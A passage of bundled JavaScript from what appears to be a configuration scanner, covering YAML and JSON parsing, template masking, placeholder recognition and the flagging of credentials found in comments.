  depth: children2.reduce((deepest, child) => Math.max(deepest, child.depth), 0) + 1
});
var nothing = (line) => ({
  kind: "scalar",
  text: "",
  value: null,
  line,
  endLine: line,
  contentLine: line,
  size: 1,
  depth: 1
});
function entriesInto(entries, isTemplate3, duplicates) {
  const branch = numbering();
  return (name, value, line) => {
    const known2 = isTemplate3 ? void 0 : entries.get(name);
    if (known2 !== void 0 && losesBy(known2, value)) duplicates.push({ text: name, line });
    entries.set(isTemplate3 ? branch(name) : name, value);
  };
}
var losesBy = (first, second) => (first.kind !== "scalar" || first.value !== null) && signature(first) !== signature(second);
function mapOf(entries, line, endLine) {
  return { kind: "map", entries, line, endLine, ...measured([...entries.values()]) };
}

// src/domains/config/begun-blocks.ts
var HEAD = /^(?<head>(?<spaces> *)(?<dashes>(?:- +)*)(?:(?<key>[^\s#-][^\n]*?:)(?=[ \ue000-\ue07e]|$))? *)/;
var OPENS_TEXT = /^[|>][-+\d]*(?:[ \t]+#.*)?$/;
var ACTIONS = /^([|>][-+]?\d?)? *([\ue000-\ue07e][ \t\ue000-\ue07e]*)(?:#.*)?$/;
var ENTRY = /^(?:-(?:[ \t]|$)|(?:"[^"]*"|'[^']*'|[^\s"'#[{|>&*!-][^\n]*?):(?:[ \t]|$))/;
function withoutBeginnings(lines) {
  const below6 = linesBelow(lines);
  let text;
  return lines.map((line, index) => {
    if (text !== void 0 && (isBlank(line) || indentOf(line) > text)) return line;
    const opening5 = openingOf(line);
    text = OPENS_TEXT.test(opening5.rest) ? opening5.column : void 0;
    return opening5.start === "" ? line : begun(line, opening5, below6[index] ?? "");
  });
}
function openingOf(line) {
  const { head = "", spaces = "", dashes = "", key: key3 = "" } = HEAD.exec(line)?.groups ?? {};
  const start = dashes + key3 === "" ? "" : spaces + dashes + key3;
  return { start, column: (key3 === "" ? spaces : spaces + dashes).length, rest: line.slice(head.length) };
}
function begun(line, { start, column, rest }, below6) {
  const [, block2, actions2] = ACTIONS.exec(rest) ?? [];
  if (actions2 === void 0) return line;
  const indent = indentOf(below6);
  if (block2 !== void 0) return `${start} ${indent > column ? block2 : actions2}`;
  const isItem2 = start.endsWith(":") && indent === column && /^-(?: |$)/.test(below6.slice(indent));
  const isBegun = isItem2 || indent > column && ENTRY.test(below6.slice(indent));
  return isBegun ? start.trimEnd() : `${start.trimEnd()} ${actions2}`;
}
function linesBelow(lines) {
  const below6 = [];
  let next = "";
  for (let at3 = lines.length - 1; at3 >= 0; at3--) {
    below6[at3] = next;
    const line = lines[at3] ?? "";
    if (!isBlank(line)) next = line;
  }
  return below6;
}
var isBlank = (line) => /^[ \t]*(?:#.*)?$/.test(line);
var indentOf = (line) => line.search(/[^ ]/);

// src/domains/config/mask.ts
var STAND_IN = 57344;
var OTHER = "\uE000";
var TEMPLATE_LINE = /^[ \t]*(?:- +)?(?:[\w./"'-]+:[ \t]+)?(?:\{\{|\{%)/m;
var ONLY_ACTIONS = /^[ \t\ue000-\ue07e]*$/;
var GLUED = /^([ \t]*(?:- +)?["']?[^\s:"'\ue000-\ue07e]+["']?:)(?: *[|>][-+]?\d? *)?(?=[\ue000-\ue07e])/;
var ENDS = /* @__PURE__ */ new Set(["else", "end", "endif", "endfor"]);
var isTemplate2 = (text, path27) => text.includes("{{") || text.includes("{%") ? isOfChart(path27) || TEMPLATE_LINE.test(text) : false;
var isOfChart = (path27) => /(?:^|\/)templates\//.test(path27);
function mask(text) {
  const conditions = [];
  const masked = [];
  let rest = 0;
  let line = 1;
  let head = "empty";
  for (const { start, end, word, condition: condition2 } of actions(text)) {
    const [before3, action2] = [text.slice(rest, start), text.slice(start, end)];
    line += count(before3);
    if (word !== void 0 && !ENDS.has(word)) conditions.push({ text: `${word} ${condition2}`, line });
    head = headAfter(head, before3);
    const isDropped = word !== void 0 && (head === "conditional" ? ENDS.has(word) : head !== "content");
    masked.push(before3, isDropped ? "\n".repeat(count(action2)) : standIns(action2));
    head = isDropped && head === "empty" ? "condition" : headAfter(head, isDropped ? "" : action2);
    line += count(action2);
    rest = end;
  }
  masked.push(text.slice(rest));
  const lines = masked.join("").split("\n");
  const said8 = lines.map((each) => ONLY_ACTIONS.test(each) ? "" : each);
  return { text: withoutBeginnings(said8).map(loosened).join("\n"), conditions };
}
function headAfter(head, text) {
  const last = text.slice(text.lastIndexOf("\n") + 1);
  const begun2 = text.includes("\n") ? "empty" : head;
  if (/^[\s-]*$/.test(last)) return begun2;
  return begun2 === "condition" || begun2 === "conditional" ? "conditional" : "content";
}
var loosened = (line) => line.replace(GLUED, "$1 ");
var unmask = (text) => text.replace(/[\ue001-\ue07e]/g, (char) => String.fromCharCode(char.charCodeAt(0) - STAND_IN)).replace(/\{\{(?:-(?=[ \t]))?[ \t]{0,8}/g, "{{ ").replace(/[ \t]{0,8}(?:[ \t]-)?\}\}/g, " }}");
var standIns = (action2) => action2.replace(
  /[^\n\r]/g,
  (char) => /[ -~]/.test(char) ? String.fromCharCode(STAND_IN + char.charCodeAt(0)) : OTHER
);
var count = (text) => text.split("\n").length - 1;

// src/domains/config/plant.ts
function plant({ contents }, lineAt, isTemplate3) {
  if (contents === null || (0, import_yaml2.isScalar)(contents) && contents.value === null) return void 0;
  const planter = new Planter(lineAt, isTemplate3);
  return { root: planter.grow(contents), duplicates: planter.duplicates };
}
var Planter = class {
  duplicates = [];
  #lineAt;
  #isTemplate;
  /** What anchors stand for where the walk has come to; `growing` until complete, so that an alias to its own parent is seen. */
  #anchors = /* @__PURE__ */ new Map();
  #merged = 0;
  constructor(lineAt, isTemplate3) {
    this.#lineAt = lineAt;
    this.#isTemplate = isTemplate3;
  }
  /** `line` is that of the key that holds the node. */
  grow(node, line = this.#lineOf(node)) {
    if ((0, import_yaml2.isAlias)(node)) return this.#follow(node);
    if (node.anchor === void 0) return this.#growOwn(node, line);
    this.#anchors.set(node.anchor, "growing");
    const grown3 = this.#growOwn(node, line);
    this.#anchors.set(node.anchor, grown3);
    return grown3;
  }
  #growOwn(node, line) {
    if ((0, import_yaml2.isMap)(node)) return this.#growMap(node, line);
    if ((0, import_yaml2.isScalar)(node)) return this.#growScalar(node, line);
    const items = node.items.filter(import_yaml2.isNode).map((item) => this.grow(item));
    return { kind: "list", items, ...this.#placed(node, line, items) };
  }
  #growMap(node, line) {
    const entries = /* @__PURE__ */ new Map();
    const merged = [];
    const enter = entriesInto(entries, this.#isTemplate, this.duplicates);
    for (const { key: key3, value } of node.items) {
      const name = this.#nameOf(key3);
      const keyLine = (0, import_yaml2.isNode)(key3) ? this.#lineOf(key3) : line;
      const grown3 = (0, import_yaml2.isNode)(value) ? this.grow(value, (0, import_yaml2.isAlias)(value) ? void 0 : keyLine) : nothing(keyLine);
      if (name === "<<" && grown3.kind !== "scalar") merged.push(...grown3.kind === "list" ? grown3.items : [grown3]);
      else enter(name, grown3, keyLine);
    }
    for (const source of merged) this.#merge(entries, source);
    return { kind: "map", entries, ...this.#placed(node, line, [...entries.values()]) };
  }
  /** What `<<` brings, where the map has no key of its own for it. */
  #merge(entries, source) {
    if (source.kind !== "map") return;
    this.#merged += source.entries.size;
    if (this.#merged > LIMITS.nodes)
      throw new Unreadable("its merge keys stand for more than 200,000 values", source.line);
    for (const [name, value] of source.entries) if (!entries.has(name)) entries.set(name, value);
  }
  #growScalar(node, line) {
    const { type, value } = node;
    const placed3 = this.#placed(node, line, []);
    const isBlock = type === import_yaml2.Scalar.BLOCK_LITERAL || type === import_yaml2.Scalar.BLOCK_FOLDED;
    const contentLine = this.#lineOf(node) + (isBlock ? 1 : 0);
    const typed2 = typeof value === "number" || typeof value === "boolean" || value === null ? value : void 0;
    if (typed2 !== void 0) return { kind: "scalar", text: node.source ?? "", value: typed2, contentLine, ...placed3 };
    const text = this.#isTemplate ? unmask(String(value)) : String(value);
    return { kind: "scalar", text, value: text, contentLine, ...placed3 };
  }
  #follow(alias) {
    const found = this.#anchors.get(alias.source);
    if (found === void 0) throw new Unreadable(`the alias *${alias.source} stands for nothing`, this.#lineOf(alias));
    if (found === "growing")
      throw new Unreadable(`the alias *${alias.source} stands for its own parent`, this.#lineOf(alias));
    return found;
  }
  #nameOf(key3) {
    if (!(0, import_yaml2.isScalar)(key3)) return (0, import_yaml2.isAlias)(key3) ? `*${key3.source}` : "{\u2026}";
    const text = key3.type === import_yaml2.Scalar.PLAIN ? key3.source ?? "" : String(key3.value);
    return this.#isTemplate ? unmask(text) : text;
  }
  #lineOf(node) {
    return this.#lineAt(node.range?.[0] ?? 0);
  }
  /** The line a node's content ends at; what a block scalar leaves empty is none. */
  #endOf(node) {
    const [start, end] = node.range ?? [0, 0];
    return this.#lineAt((0, import_yaml2.isScalar)(node) && node.value === "" ? start : Math.max(end - 1, start));
  }
  #placed(node, line, children2) {
    const { size: size2, depth } = measured(children2);
    if (size2 > LIMITS.nodes) throw new Unreadable("its aliases stand for more than 200,000 values", line);
    if (depth > LIMITS.depth + 1) throw new Unreadable("its aliases nest more than 200 deep", line);
    const endLine = Math.max(line, this.#endOf(lastOf(node)));
    return { line, endLine, size: size2, depth, ...node.tag?.startsWith("!") ? { tag: node.tag } : {} };
  }
};
function lastOf(node) {
  let last = node;
  while ((0, import_yaml2.isCollection)(last) && !last.flow) {
    const item = last.items.at(-1);
    const next = (0, import_yaml2.isPair)(item) ? item.value ?? item.key : item;
    if (!(0, import_yaml2.isNode)(next)) break;
    last = next;
  }
  return last;
}

// src/domains/config/compose.ts
var OPTIONS = { version: "1.2", uniqueKeys: false, merge: false, logLevel: "silent", prettyErrors: false };
function compose(text, placed3, isTemplate3) {
  const strict = documentsOf(text, placed3);
  const [error] = strict.documents.flatMap(({ errors }) => errors);
  if (error === void 0) return grown(strict, isTemplate3);
  const mended = isTemplate3 ? void 0 : indented(text);
  const loose = mended === void 0 ? void 0 : documentsOf(mended, placed3);
  if (loose?.documents.every(({ errors }) => errors.length === 0) === true) return grown(loose, isTemplate3);
  const line = strict.lineAt(error.pos[0]);
  throw new Unreadable(`line ${line}: ${reasonOf(error.message)}`, line);
}
function documentsOf(text, placed3) {
  const lines = new import_yaml3.LineCounter();
  const lineAt = (offset) => placed3(Math.max(lines.linePos(offset).line, 1));
  const tokens3 = [...new import_yaml3.Parser(lines.addNewLine).parse(text)];
  checkLimits(tokens3, lineAt);
  return { documents: [...new import_yaml3.Composer(OPTIONS).compose(tokens3, true, text.length)], lineAt };
}
var grown = ({ documents: documents2, lineAt }, isTemplate3) => documents2.map((document) => plant(document, lineAt, isTemplate3));
var reasonOf = (message) => (message.split("\n")[0] ?? "").replace(/[.:]$/, "");

// src/domains/config/block-yaml/cursor.ts
var BEYOND = new Error("beyond plain block YAML");
function giveUp() {
  throw BEYOND;
}
var Cursor = class {
  /** The column the current content begins at; -1 past the end. */
  indent = -1;
  /** The current line from there on. */
  content = "";
  #lines;
  #index = -1;
  constructor(lines) {
    this.#lines = lines;
    this.advance();
  }
  /** The number of the current line, from 1. */
  get line() {
    return this.#index + 1;
  }
  /** Goes on to the next line that says something. */
  advance() {
    for (this.#index++; this.#index < this.#lines.length; this.#index++) {
      const text = this.#lines[this.#index] ?? "";
      const indent = spacesOf(text);
      if (indent === text.length || text[indent] === "#") continue;
      if (text[indent] === "	") giveUp();
      this.indent = indent;
      this.content = text.slice(indent);
      return;
    }
    this.indent = -1;
    this.content = "";
  }
  /** Stays on the line, and takes what stands `columns` further as a block of its own: what follows `- `. */
  enter(columns) {
    this.indent += columns;
    this.content = this.content.slice(columns);
  }
  /** The lines below that are empty or stand deeper than `indent`, up to the last that is not quite empty. */
  below(indent) {
    const start = this.#index + 1;
    let end = start;
    for (let i = start; i < this.#lines.length; i++) {
      const text = this.#lines[i] ?? "";
      const spaces = spacesOf(text);
      if (spaces < text.length && spaces <= indent) break;
      if (text !== "") end = i + 1;
    }
    return this.#lines.slice(start, end);
  }
  /** Steps over some lines below, and then on. */
  skip(lines) {
    this.#index += lines;
    this.advance();
  }
};
function spacesOf(text) {
  let column = 0;
  while (text.codePointAt(column) === SPACE) column++;
  return column;
}
var SPACE = 32;

// src/domains/config/block-yaml/openings.ts
function restOfItem(content) {
  if (content === "-") return "";
  return content.startsWith("- ") ? restOf(content.slice(2)) : void 0;
}
function keyOf4(content) {
  const quoted = /^(?:"([^"\\]*)"|'([^']*)') *:(?= |$)/.exec(content);
  if (quoted) return { name: quoted[1] ?? quoted[2] ?? "", rest: restOf(content.slice(quoted[0].length)) };
  if (INDICATORS.has(content.charAt(0))) return void 0;
  const colon = content.search(/:(?=[ \t]|$)/);
  if (colon < 0) return void 0;
  const name = content.slice(0, colon).trimEnd();
  if (colon > LONGEST_KEY || name === "" || name === "<<" || /[ \t]#|\t/.test(content.slice(0, colon + 2))) giveUp();
  return { name, rest: restOf(content.slice(colon + 1)) };
}
var longKeyOf = (content) => content.startsWith("? ") ? /^\? +([\w/][\w./{}-]*) *$/.exec(content)?.[1] : void 0;
var valueOfLongKey = (content) => content.startsWith(": ") && restOf(content.slice(1)) || void 0;
var INDICATORS = new Set(",[]{}#&*!|>'\"%@`?:".split(""));
var LONGEST_KEY = 1e3;
function restOf(text) {
  const rest = text.replace(/^ +/, "");
  if (rest.startsWith("	")) giveUp();
  return rest.startsWith("#") || rest.trim() === "" ? "" : rest;
}

// src/domains/config/block-yaml/scalars.ts
var NULL = /^(?:~|[Nn]ull|NULL)$/;
var BOOLEAN = /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/;
var NUMBER2 = /^(?:[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?|0o[0-7]+|0x[\da-fA-F]+)$/;
function typed(text) {
  if (!/^[-+.~\dnNtTfF]/.test(text)) return text;
  if (NULL.test(text)) return null;
  if (BOOLEAN.test(text)) return /^t/i.test(text);
  return NUMBER2.test(text) ? Number(text) : text;
}
var readPlain = (first, below6) => {
  const parts = [];
  for (const line of [first, ...below6]) {
    const comment = line.search(/[ \t]#/);
    const text2 = trimmed(comment < 0 ? line : line.slice(0, comment));
    if (/:(?:[ \t]|$)/.test(text2)) giveUp();
    if (text2 === "" || text2.startsWith("#")) return void 0;
    parts.push(text2);
    if (comment >= 0) break;
  }
  const text = parts.join(" ");
  if (parts.length <= below6.length || /^[-+]?\.(?:inf|nan)$/i.test(text)) return void 0;
  return { text, lines: below6.length };
};
var QUOTED2 = /^(?:'([^']*(?:''[^']*)*)'|"([^"\\]*(?:\\[^][^"\\]*)*)")(?:[ \t]+#.*|[ \t]*)$/;
var LONGEST4 = 1e5;
var readQuoted = (first, below6) => {
  const written2 = [first, ...below6].join("\n");
  const [, single, double] = written2.length > LONGEST4 ? [] : QUOTED2.exec(written2) ?? [];
  const text = single === void 0 ? unescaped(double) : folded2(single).replaceAll("''", "'");
  return text === void 0 || text === "" && below6.length > 0 ? void 0 : { text, lines: below6.length };
};
var ESCAPE = /\\(?:u([\da-fA-F]{4})|(["\\/bfnrt \n]))/g;
var ESCAPED = { b: "\b", f: "\f", n: "\n", r: "\r", t: "	", "\n": "" };
function unescaped(text) {
  if (text === void 0 || !text.includes("\\")) return text && folded2(text);
  const joined2 = text.includes("\n") ? joinedLines(text.split("\n")) : text;
  if (/[^\P{Cc}\n]|\\/u.test(joined2.replace(ESCAPE, ""))) return void 0;
  return joined2.replace(
    ESCAPE,
    (_, code, character = "") => code === void 0 ? ESCAPED[character] ?? character : String.fromCodePoint(Number.parseInt(code, 16))
  );
}
var IN_DOUBT = "\0";
function joinedLines([first = "", ...others]) {
  let [text, empty] = [first, 0];
  for (const [index, line] of others.entries()) {
    const begun2 = line.replace(/^[ \t]+/, "");
    if (begun2 === "" && index < others.length - 1) empty += 1;
    else {
      text += `${gapBehind(text, empty)}${begun2}`;
      empty = 0;
    }
  }
  return text;
}
function gapBehind(text, empty) {
  if (!isOpen2(text)) return /[ \t]$/.test(text) ? IN_DOUBT : "\n".repeat(empty) || " ";
  return empty > 0 ? IN_DOUBT : "\n";
}
function isOpen2(text) {
  let backslashes = 0;
  while (text.at(-1 - backslashes) === "\\") backslashes++;
  return backslashes % 2 === 1;
}
function folded2(text) {
  if (!text.includes("\n")) return text;
  return text.replace(/[ \t]*\n[ \t\n]*/g, (gap) => "\n".repeat(gap.split("\n").length - 2) || " ");
}
var readLiteral = (first, below6) => {
  const [, chomp] = /^\|(-?)(?:[ \t]+#.*|[ \t]*)$/.exec(first) ?? [];
  const lines = dedented(below6);
  if (chomp === void 0 || lines === void 0) return void 0;
  return { text: lines.join("\n") + (chomp === "" ? "\n" : ""), lines: below6.length };
};
function dedented(lines) {
  const indent = /^ +(?=[^ ])/.exec(lines[0] ?? "")?.[0];
  if (indent === void 0 || /^ *$/.test(lines.at(-1) ?? "")) return void 0;
  const isEven = lines.every((line) => line.startsWith(indent) || indent.startsWith(line));
  return isEven ? lines.map((line) => line.slice(indent.length)) : void 0;
}
var trimmed = (text) => text.replace(/^[ \t]+/, "").replace(/(?<![ \t])[ \t]+$/, "");

// src/domains/config/block-yaml/read.ts
function readBlocks(lines, placed3, isTemplate3) {
  try {
    const reader = new BlockReader(new Cursor(lines), placed3, isTemplate3);
    return { root: reader.read(), duplicates: reader.duplicates };
  } catch (error) {
    if (error === BEYOND) return void 0;
    throw error;
  }
}
var READERS = { '"': readQuoted, "'": readQuoted, "|": readLiteral };
var OTHERS = new Set(",[]{}#&*!>%@`?:".split(""));
var ANCHOR = /(?:^|[\s,[{:?-])[&*][^\s]/;
var TEXTS = new Set(`"'|>`.split(""));
var MOST_ODD_ENTRIES = 2e3;
var DEEPEST = 90;
var BlockReader = class {
  duplicates = [];
  #cursor;
  #placed;
  #isTemplate;
  #nodes = 0;
  #oddEntries = 0;
  #depth = 0;
  constructor(cursor, placed3, isTemplate3) {
    this.#cursor = cursor;
    this.#placed = placed3;
    this.#isTemplate = isTemplate3;
  }
  read() {
    const root = this.#block(this.#line);
    return this.#cursor.indent >= 0 ? giveUp() : root;
  }
  get #line() {
    return this.#placed(this.#cursor.line);
  }
  /** The map or list that begins here. `line` is that of the key that holds it. */
  #block(line) {
    if (++this.#depth > DEEPEST) giveUp();
    const isList = restOfItem(this.#cursor.content) !== void 0;
    const block2 = isList ? this.#list(line) : this.#map(line);
    this.#depth--;
    return block2;
  }
  #map(line) {
    const cursor = this.#cursor;
    const { indent } = cursor;
    const entries = /* @__PURE__ */ new Map();
    const enter = entriesInto(entries, this.#isTemplate, this.duplicates);
    let endLine = line;
    while (cursor.indent === indent && restOfItem(cursor.content) === void 0) {
      const keyLine = this.#line;
      const long = longKeyOf(cursor.content);
      const { name, rest } = long === void 0 ? keyOf4(cursor.content) ?? giveUp() : this.#longKey(long, indent);
      this.#count(2);
      const value = this.#value(rest, indent, keyLine, long !== void 0);
      enter(this.#text(name), value, keyLine);
      endLine = Math.max(value.endLine, keyLine);
    }
    return cursor.indent > indent || entries.size === 0 ? giveUp() : mapOf(entries, line, endLine);
  }
  /** `? key` on a line of its own, as long keys are written: the value follows on the next, after `: `. */
  #longKey(name, indent) {
    const cursor = this.#cursor;
    cursor.advance();
    const rest = cursor.indent === indent ? valueOfLongKey(cursor.content) : void 0;
    return rest === void 0 ? giveUp() : { name, rest };
  }
  /** Only behind a long key may a map or list begin on the same line. */
  #value(rest, indent, keyLine, mayBeBlock) {
    const cursor = this.#cursor;
    if (rest === "") return this.#valueBelow(indent, keyLine);
    if (!mayBeBlock) return this.#scalar(rest, indent, keyLine);
    if (restOfItem(rest) === void 0 && keyOf4(rest) === void 0)
      return { ...this.#scalar(rest, indent, keyLine), line: keyLine };
    cursor.enter(cursor.content.length - rest.length);
    return this.#block(keyLine);
  }
  /** What stands below its key: a deeper block, a list that may stand as deep as the key, or nothing. */
  #valueBelow(indent, keyLine) {
    const cursor = this.#cursor;
    cursor.advance();
    if (cursor.indent > indent) return this.#block(keyLine);
    const isList = cursor.indent === indent && restOfItem(cursor.content) !== void 0;
    return isList ? this.#block(keyLine) : nothing(keyLine);
  }
  #list(line) {
    const cursor = this.#cursor;
    const { indent } = cursor;
    const items = [];
    for (let rest = restOfItem(cursor.content); rest !== void 0; rest = restOfItem(cursor.content)) {
      this.#count(1);
      items.push(this.#item(rest, indent));
      if (cursor.indent !== indent) break;
    }
    if (cursor.indent > indent) giveUp();
    const endLine = items.reduce((last, item) => Math.max(last, item.endLine), line);
    return { kind: "list", items, line, endLine, ...measured(items) };
  }
  #item(rest, indent) {
    const cursor = this.#cursor;
    const itemLine = this.#line;
    if (rest === "") {
      cursor.advance();
      return cursor.indent > indent ? this.#block(this.#line) : nothing(itemLine);
    }
    if (restOfItem(rest) === void 0 && keyOf4(rest) === void 0) return this.#scalar(rest, indent);
    cursor.enter(cursor.content.length - rest.length);
    return this.#block(itemLine);
  }
  #scalar(first, indent, keyLine) {
    const cursor = this.#cursor;
    const opening5 = first.charAt(0);
    const all = cursor.below(indent);
    const content = OTHERS.has(opening5) || /^-(?:\s|$)/.test(first) ? void 0 : (READERS[opening5] ?? readPlain)(first, opening5 === "|" ? all : withoutComments(all));
    if (content === void 0) return this.#odd(first, all, indent, keyLine);
    const line = this.#line;
    const text = this.#text(content.text);
    const value = READERS[opening5] === void 0 ? typed(text) : text;
    const endLine = this.#placed(cursor.line + content.lines);
    const contentLine = opening5 === "|" ? this.#placed(cursor.line + 1) : line;
    cursor.skip(all.length);
    return { kind: "scalar", text, value, line, endLine, contentLine, size: 1, depth: 1 };
  }
  /** An entry for the full parser: the value of a key on `line`, or an item. */
  #odd(first, below6, indent, line) {
    const text = [`${" ".repeat(indent)}${line === void 0 ? "-" : "x:"} ${first}`, ...below6, ""].join("\n");
    if (++this.#oddEntries > MOST_ODD_ENTRIES || !TEXTS.has(first.charAt(0)) && ANCHOR.test(text)) giveUp();
    const planted = this.#composed(text);
    const value = onlyOne(planted?.root);
    if (planted === void 0 || value === void 0) return giveUp();
    this.duplicates.push(...planted.duplicates);
    this.#cursor.skip(below6.length);
    this.#count(value.size);
    return line === void 0 ? value : { ...value, line };
  }
  #composed(text) {
    const above = this.#cursor.line - 1;
    try {
      return compose(text, (line) => this.#placed(above + line), this.#isTemplate)[0];
    } catch (error) {
      if (error instanceof Unreadable) return giveUp();
      throw error;
    }
  }
  #text(text) {
    return this.#isTemplate ? unmask(text) : text;
  }
  #count(nodes) {
    this.#nodes += nodes;
    if (this.#nodes > LIMITS.nodes) throw new Unreadable("it holds more than 200,000 values");
  }
};
function withoutComments(lines) {
  return lines.slice(0, lines.findLastIndex((line) => /^ *[^ #]/.test(line)) + 1);
}
var onlyOne = (root) => root?.kind === "map" && root.entries.size > 1 ? void 0 : at(root, "x") ?? itemsAt(root)[0];

// src/domains/config/branch-indent.ts
var ALONE = /^\s*\{\{-?\s*(?:(if|with|range|define|block)|(else)|(end))\b(?:(?!\}\}).)*\}\}\s*$/;
var IS_ACTION = /^\s*\{\{.*\}\}\s*$/;
function levelBranches(text) {
  const lines = text.split("\n");
  const open = [];
  for (const [at3, line] of lines.entries()) {
    const [, opens, turns, closes] = ALONE.exec(line) ?? [];
    if (opens !== void 0) open.push({ from: at3 + 1, branches: [] });
    const last = open.at(-1);
    if (last === void 0 || turns === void 0 && closes === void 0) continue;
    last.branches.push({ from: last.from, to: at3 });
    last.from = at3 + 1;
    if (closes !== void 0) level(lines, open.pop()?.branches ?? []);
  }
  return lines.join("\n");
}
function level(lines, branches2) {
  const indents = branches2.map((branch) => indentOf2(lines, branch));
  const first = indents.find((indent) => indent !== void 0);
  for (const [i, branch] of branches2.entries()) shift(lines, branch, (first ?? 0) - (indents[i] ?? first ?? 0));
}
function indentOf2(lines, { from: from3, to }) {
  const own = lines.slice(from3, to).filter((line) => /\S/.test(line) && !IS_ACTION.test(line));
  return own.length === 0 ? void 0 : own.reduce((least, line) => Math.min(least, line.search(/\S/)), Infinity);
}
function shift(lines, { from: from3, to }, by) {
  if (by === 0) return;
  for (let at3 = from3; at3 < to; at3++) {
    const line = lines[at3] ?? "";
    const blank = line.length - line.trimStart().length;
    lines[at3] = " ".repeat(Math.max(blank + by, 0)) + line.trimStart();
  }
}

// src/domains/config/placeholders.ts
var isPlaceholder = (text) => /example|sample|change[-_]?(?:me|it)|placeholder|dummy|redacted|my[-_]?secret|replace|insert|your[-_ ]|todo|foobar|<[^>]*>|\*{3}|x{4}|\.{3}|0{6}|123456|abcdef$|^__\w+__$|^%%?\w+%%?$|eyJzdWIiOiIxMjM0NTY3ODkw|^(.)\1{4,}$/i.test(
  text
);

// src/domains/config/comments.ts
var PROVEN = SECRET_PATTERNS.filter(({ name }) => !isLogin(name));
var YAML_COMMENT = /(?:^|\s)#.*$/;
var JSON_COMMENT = /\/[/*].*$|^\s*\*.*$/;
function credentialsInComments(text, isJson2) {
  const [mark2, comment] = isJson2 ? ["/", JSON_COMMENT] : ["#", YAML_COMMENT];
  if (!text.includes(mark2)) return [];
  const comments = text.split("\n").flatMap((line, index) => {
    const [said8] = line.length <= LONGEST5 && comment.exec(line) || [];
    return said8 === void 0 ? [] : [{ said: said8, line: index + 1 }];
  });
  const all = comments.map(({ said: said8 }) => said8).join("\n");
  const patterns = PROVEN.filter(({ pattern }) => pattern.test(all));
  return comments.flatMap(({ said: said8, line }) => patterns.flatMap((each) => markOf(each, said8, line)));
}
var LONGEST5 = 1e4;
function markOf({ name, pattern }, comment, line) {
  const [found] = pattern.exec(comment) ?? [];
  if (found === void 0 || isPlaceholder(found)) return [];
  return [{ text: `${name} ${digest(`breakwater:${found}`).slice(0, 6)}`, line }];
}

// src/domains/config/filled.ts
var PRINTS = new RegExp(
  String.raw`^(\s*)\{\{(?!-?\s*(?:(?:if|else|end|with|range|define|block|break|continue)\b|/\*|\$\w+\s*:?=))(.*)\}\}\s*$`
);
var INDENTED = /\bn?indent\s+(\d{1,3})\b/;
var NO_CONTENT = /^\s*(?:#.*|(?:\{\{.*\}\}\s*)?)$/;
function filledIn(text) {
  const filled = /* @__PURE__ */ new Map();
  const open = [];
  const leave = (indent) => {
    while ((open.at(-1)?.indent ?? -1) >= indent) open.pop();
  };
  for (const [index, line] of text.split("\n").entries()) {
    const [, blank = "", action2] = PRINTS.exec(line) ?? [];
    if (action2 !== void 0) {
      const owner = open.findLast(({ indent }) => indent < Number(INDENTED.exec(action2)?.[1] ?? blank.length));
      const [known2, words2] = [owner && filled.get(owner.line), action2.replaceAll(/^-|-$/g, "").trim()];
      if (known2) known2.push(words2);
      else if (owner) filled.set(owner.line, [words2]);
    } else if (!NO_CONTENT.test(line)) {
      for (const indent of indentsOf(line)) {
        leave(indent);
        open.push({ indent, line: index + 1 });
      }
    }
  }
  return filled;
}
function indentsOf(line) {
  const begin = line.length - line.trimStart().length;
  const item = /^(?:- +)+/.exec(line.slice(begin))?.[0] ?? "";
  return item === "" ? [begin] : [begin, begin + item.length];
}

// src/domains/config/fragments.ts
var OPENS2 = /^(?:if|with|range|for|define|block)\b/;
var EMPTY2 = /^[ \t]*(?:\[ ?\]|\{ ?\})[ \t]*$/;
function withoutFragments(text) {
  const lines = text.split("\n");
  for (const { from: from3, to } of definitionsIn(text)) lines.fill("", from3, to);
  return lines.map((line) => EMPTY2.test(line) ? "" : line).join("\n");
}
function definitionsIn(text) {
  const found = [];
  let depth = 0;
  let from3;
  for (const { start, end, line } of actionsByLine(text)) {
    const words2 = text.slice(start + 2, end - 2).replace(/^-?\s*/, "");
    if (OPENS2.test(words2) && ++depth === 1 && words2.startsWith("define")) from3 = line - 1;
    if (!/^end\b/.test(words2) || --depth > 0) continue;
    depth = 0;
    if (from3 !== void 0) found.push({ from: from3, to: line });
    from3 = void 0;
  }
  return found;
}

// src/domains/config/json.ts
var TOKENS2 = {
  openBrace: 1,
  closeBrace: 2,
  openBracket: 3,
  closeBracket: 4,
  comma: 5,
  colon: 6,
  null: 7,
  true: 8,
  false: 9,
  string: 10,
  number: 11,
  end: 17
};
function readJson(text) {
  const reader = new JsonReader(createScanner(text.replace(/^\ufeff/, ""), true));
  return reader.isAtEnd ? void 0 : { root: reader.read(), duplicates: reader.duplicates };
}
var JsonReader = class {
  duplicates = [];
  #scanner;
  #token;
  #nodes = 0;
  #depth = 0;
  constructor(scanner) {
    this.#scanner = scanner;
    this.#token = scanner.scan();
  }
  get isAtEnd() {
    return this.#token === TOKENS2.end;
  }
  read() {
    const root = this.#value(this.#line);
    return this.isAtEnd ? root : this.#refuse("text follows the value");
  }
  get #line() {
    return this.#scanner.getTokenStartLine() + 1;
  }
  #value(line) {
    if (++this.#nodes > LIMITS.nodes) throw new Unreadable("it holds more than 200,000 values");
    if (this.#token === TOKENS2.openBrace) return this.#nested(() => this.#map(line));
    if (this.#token === TOKENS2.openBracket) return this.#nested(() => this.#list(line));
    return this.#scalar(line);
  }
  #nested(read3) {
    if (++this.#depth > LIMITS.depth) this.#refuse("it is nested more than 200 deep");
    this.#next();
    const node = read3();
    this.#next();
    this.#depth--;
    return node;
  }
  #map(line) {
    const entries = /* @__PURE__ */ new Map();
    const enter = entriesInto(entries, false, this.duplicates);
    while (this.#token !== TOKENS2.closeBrace) {
      if (this.#token !== TOKENS2.string) this.#refuse("a key is expected");
      const [name, keyLine] = [this.#scanner.getTokenValue(), this.#line];
      if (this.#next() !== TOKENS2.colon) this.#refuse("a colon is expected");
      this.#next();
      enter(name, this.#value(keyLine), keyLine);
      this.#comma(TOKENS2.closeBrace);
    }
    return mapOf(entries, line, this.#line);
  }
  #list(line) {
    const items = [];
    while (this.#token !== TOKENS2.closeBracket) {
      items.push(this.#value(this.#line));
      this.#comma(TOKENS2.closeBracket);
    }
    return { kind: "list", items, line, endLine: this.#line, ...measured(items) };
  }
  #comma(close) {
    if (this.#token === TOKENS2.comma) this.#next();
    else if (this.#token !== close) this.#refuse("a comma is expected");
  }
  #scalar(line) {
